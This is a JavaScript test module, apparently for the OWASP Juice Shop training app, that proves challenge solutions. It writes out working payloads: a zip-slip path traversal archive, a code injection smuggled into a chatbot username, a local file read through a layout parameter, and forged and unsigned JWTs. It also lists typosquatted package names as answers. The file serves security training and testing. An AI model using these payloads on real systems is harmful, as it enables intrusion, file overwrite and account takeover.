import { forgeSigned, forgeUnsigned } from '../attacker/forge-token.js'
import { makeZip } from '../attacker/make-zip.js'
import { logsIn } from '../features/accounts.js'
import { askBot, isGreeted, nameOneself } from '../features/chat.js'
import { browseAsJim } from '../features/customers.js'
import { asksForErasure } from '../features/profile.js'
import { complains, tell } from '../features/texts.js'
import { sendsArchive, upload } from '../features/uploads.js'
import { proof } from '../proof.js'

export const fileWriteChallenge = proof({
  attack: upload('photos.zip', makeZip([{ name: '../../ftp/legal.md', content: 'Free.' }])),
  honest: sendsArchive,
})

export const killChatbotChallenge = proof({
  async attack(me) {
    const token = await nameOneself(me, 'admin"); process=null; users.addUser("1337", "test')
    await askBot(me, 'hello', token)
  },
  honest: isGreeted,
  isLast: true,
})

export const lfrChallenge = proof({
  async attack(me) {
    const form = new URLSearchParams({ email: 'x', securityAnswer: 'y', layout: '../package.json' })
    await (await browseAsJim(me)).send('/dataerasure', form)
  },
  honest: asksForErasure,
})

export const jwtForgedChallenge = proof({
  async attack(me) {
    const { text } = await me.get('/encryptionkeys/jwt.pub')
    await me.get('/rest/languages', { token: forgeSigned({ data: { email: 'rsa_lord@juice-sh.op' } }, text) })
  },
  honest: logsIn,
})

export const jwtUnsignedChallenge = proof({
  attack: (me) => me.get('/rest/languages', { token: forgeUnsigned({ data: { email: 'jwtn3d@juice-sh.op' } }) }),
  honest: logsIn,
})

export const knownVulnerableComponentChallenge = proof({ attack: tell('sanitize-html 1.4.2'), honest: complains })

export const supplyChainAttackChallenge = proof({
  attack: tell('https://github.com/eslint/eslint-scope/issues/39'),
  honest: complains,
})

export const typosquattingAngularChallenge = proof({ attack: tell('ngy-cookie'), honest: complains })

export const typosquattingNpmChallenge = proof({ attack: tell('epilogue-js'), honest: complains })
